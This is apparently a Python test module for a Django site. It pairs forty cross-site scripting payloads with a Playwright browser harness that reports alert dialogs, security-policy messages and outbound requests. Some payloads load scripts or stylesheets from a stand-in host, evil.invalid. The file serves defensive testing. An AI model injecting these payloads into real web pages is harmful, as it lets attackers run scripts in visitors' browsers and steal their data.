"""Forty texts that would run a script, or reach out, on a page that does not escape (SEC-57); a browser that tells if one did."""

import re
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any
from urllib.parse import urlsplit

from django.http import HttpResponse
from django.test import Client
from playwright.sync_api import Browser, Page, Route

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.invalid/x.js></script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</select><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src=x:x onerror="alert(1)">',
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></table><script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "javascript:alert(1)",
    "<input autofocus onfocus=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "` onmouseover=alert(1)",
    "<form action=//evil.invalid><button autofocus>x</button></form>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>@import '//evil.invalid/x.css';</style>",
    "<div hx-get=/healthz hx-trigger=load hx-on:htmx:load=alert(1)>x</div>",
    "{{constructor.constructor('alert(1)')()}}{% debug %}${alert(1)}",
)
FILES: dict[str, HttpResponse] = {}
"Static files, each asked for once."
FIELD = re.compile(r"<(textarea|input)\b[^>]*?\bname=\"([^\"]+)\"[^>]*>")
NOT_TYPED = re.compile(r"\btype=\"?(hidden|checkbox|radio|file|submit|date)")


def text_fields(page: str) -> list[str]:
    """The names of the fields that a person types into."""
    return [found[2] for found in FIELD.finditer(page) if not NOT_TYPED.search(found[0])]


class Watched:
    """A page of a real browser, fed with the site's own answers; all that a script did or tried is in `seen`."""

    def __init__(self, page: Page, client: Client) -> None:
        self.page, self.client = page, client
        self.seen: list[str] = []
        self.answers: dict[str, Any] = {}
        page.on("dialog", self._dialog)
        page.on("console", lambda message: self._noted(message.text))
        page.on("pageerror", lambda error: self.seen.append(f"error: {error}"))
        page.route("**/*", self._answer)

    def load(self, response: Any) -> list[str]:
        """Show one answer as the browser gets it, headers and all; what happened beyond showing it."""
        self.seen = []
        self.answers["/under/test"] = response
        self.page.goto("http://localhost/under/test", wait_until="load")
        self.page.evaluate("new Promise(done => setTimeout(done, 20))")
        return self.seen

    def _dialog(self, dialog: Any) -> None:
        self.seen.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _noted(self, text: str) -> None:
        if "Content Security Policy" in text or "Trusted Type" in text:
            self.seen.append(text[:200])

    def _answer(self, route: Route) -> None:
        address = urlsplit(route.request.url)
        if address.hostname != "localhost":
            self.seen.append(f"reached out: {route.request.url}")
            route.abort()
            return
        response = self.answers.get(address.path) or FILES.get(address.path) or self.client.get(address.path)
        body = b"".join(response.streaming_content) if response.streaming else response.content
        if address.path.startswith("/static/"):
            FILES[address.path] = HttpResponse(body, status=response.status_code, headers=dict(response.items()))
        route.fulfill(status=response.status_code, headers=dict(response.items()), body=body)


@contextmanager
def watched(chromium: Browser, client: Client) -> Iterator[Watched]:
    """A browser page for the block."""
    context = chromium.new_context()
    try:
        yield Watched(context.new_page(), client)
    finally:
        context.close()
